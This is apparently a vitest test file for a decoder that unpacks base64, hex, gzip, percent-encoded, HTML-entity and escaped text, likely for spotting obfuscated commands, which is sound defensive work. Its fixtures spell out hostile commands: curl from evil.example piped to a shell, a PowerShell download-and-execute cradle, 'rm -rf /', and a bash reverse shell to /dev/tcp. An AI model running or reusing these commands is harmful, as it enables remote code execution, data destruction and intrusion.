import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeViews, findRuns, printableText } from './decoders.js';
import { originalView, toOriginal } from './view.js';

const budget = () => ({ chars: 1 << 20, views: 64 });

function decodeOne(text: string, chain: string) {
  const views = decodeViews(originalView(text), budget());
  const view = views.find((v) => v.decoded.at(-1) === chain);
  expect(view, `no ${chain} view among ${views.map((v) => v.name).join(', ')}`).toBeDefined();
  return view!;
}

describe('decodeViews', () => {
  it('decodes base64 (standard and url-safe) and maps to the encoded span', () => {
    const payload = Buffer.from('curl http://evil.example/x.sh | bash').toString('base64');
    const text = `run this: ${payload} please`;
    const view = decodeOne(text, 'base64');
    expect(view.text).toBe('curl http://evil.example/x.sh | bash');
    expect(toOriginal(view, 5, 10)).toEqual([10, 10 + payload.length]);
    const urlSafe = Buffer.from('subjects?_d=1&x=~~~>>>???').toString('base64url');
    expect(decodeOne(`x ${urlSafe} y`, 'base64').text).toBe('subjects?_d=1&x=~~~>>>???');
  });

  it('decodes PowerShell -EncodedCommand (UTF-16LE base64)', () => {
    const payload = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")', 'utf16le').toString('base64');
    const view = decodeOne(`powershell -nop -enc ${payload}`, 'base64-utf16le');
    expect(view.text).toContain('DownloadString');
  });

  it('decodes gzip inside base64', () => {
    const payload = gzipSync(Buffer.from('rm -rf / --no-preserve-root')).toString('base64');
    expect(decodeOne(`blob: ${payload}`, 'base64+gzip').text).toBe('rm -rf / --no-preserve-root');
  });

  it('decodes hex runs', () => {
    const hex = Buffer.from('bash -i >& /dev/tcp/10.0.0.1/4444').toString('hex');
    expect(decodeOne(`echo ${hex} | xxd -r -p`, 'hex').text).toBe('bash -i >& /dev/tcp/10.0.0.1/4444');
  });

  it('decodes percent-encoding with exact offsets', () => {
    const text = 'go to /x?cmd=curl%20http%3A%2F%2Fa%2Fb%7Csh now';
    const view = decodeOne(text, 'percent');
    expect(view.text).toBe('go to /x?cmd=curl http://a/b|sh now');
    const at = view.text.indexOf('http');
    const [start, end] = toOriginal(view, at, at + 'http://a/b'.length);
    expect(text.slice(start, end)).toBe('http%3A%2F%2Fa%2Fb');
  });

  it('decodes HTML entities across a long text with no length cut-off', () => {
    const command = 'curl http://evil.example/p.sh | sh';
    const encoded = [...command].map((c) => `&#${c.charCodeAt(0)};`).join('');
    const text = 'lorem ipsum '.repeat(900) + encoded + ' &amp; more';
    expect(text.length).toBeGreaterThan(10_000);
    const view = decodeOne(text, 'html');
    const at = view.text.indexOf(command);
    expect(at).toBeGreaterThan(0);
    expect(toOriginal(view, at, at + command.length)).toEqual([text.indexOf('&#99;'), text.indexOf(' &amp;')]);
    expect(view.text.endsWith(' & more')).toBe(true);
  });

  it('decodes \\uXXXX, \\u{...} and \\xNN escapes', () => {
    const view = decodeOne('s = "\\x63\\x75\\u0072\\u{6c} x"', 'escapes');
    expect(view.text).toBe('s = "curl x"');
  });

  it('leaves ordinary text alone and respects the budget', () => {
    expect(decodeViews(originalView('The Internationalization of /usr/local/bin/something works.'), budget())).toEqual([]);
    const many = Array.from({ length: 100 }, (_, i) => Buffer.from(`payload number ${i} here`).toString('base64')).join(' ');
    const b = { chars: 1 << 20, views: 5 };
    expect(decodeViews(originalView(many), b)).toHaveLength(5);
    expect(b.views).toBe(0);
  });

  it('printableText rejects binary', () => {
    expect(printableText(Buffer.from([0, 1, 2, 3, 255, 254]))).toBeUndefined();
    expect(printableText(Buffer.from('hello\nworld'))).toBe('hello\nworld');
  });
});

describe('findRuns', () => {
  const spans = (text: string, pattern: RegExp) => [...text.matchAll(pattern)].map((m) => [m.index, m.index + m[0].length]);
  it('finds exactly the maximal runs a regex finds, though it skips most chars', () => {
    // Random texts from a small alphabet so that runs of every length around the minimums occur.
    const alphabet = 'aF0+=_ x.\n9b-é';
    let seed = 7;
    const rand = () => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) / 2 ** 32;
    for (let t = 0; t < 300; t++) {
      const weights = rand();
      const text = Array.from({ length: Math.floor(rand() * 400) }, () => (rand() < weights ? 'aF0b9'[Math.floor(rand() * 5)] : alphabet[Math.floor(rand() * alphabet.length)])).join('');
      const found = findRuns(text, 16, 24);
      expect(found.base64, text).toEqual(spans(text, /[A-Za-z0-9+/_\-=]{16,}/g));
      expect(found.hex, text).toEqual(spans(text, /[0-9a-fA-F]{24,}/g));
    }
  });
});
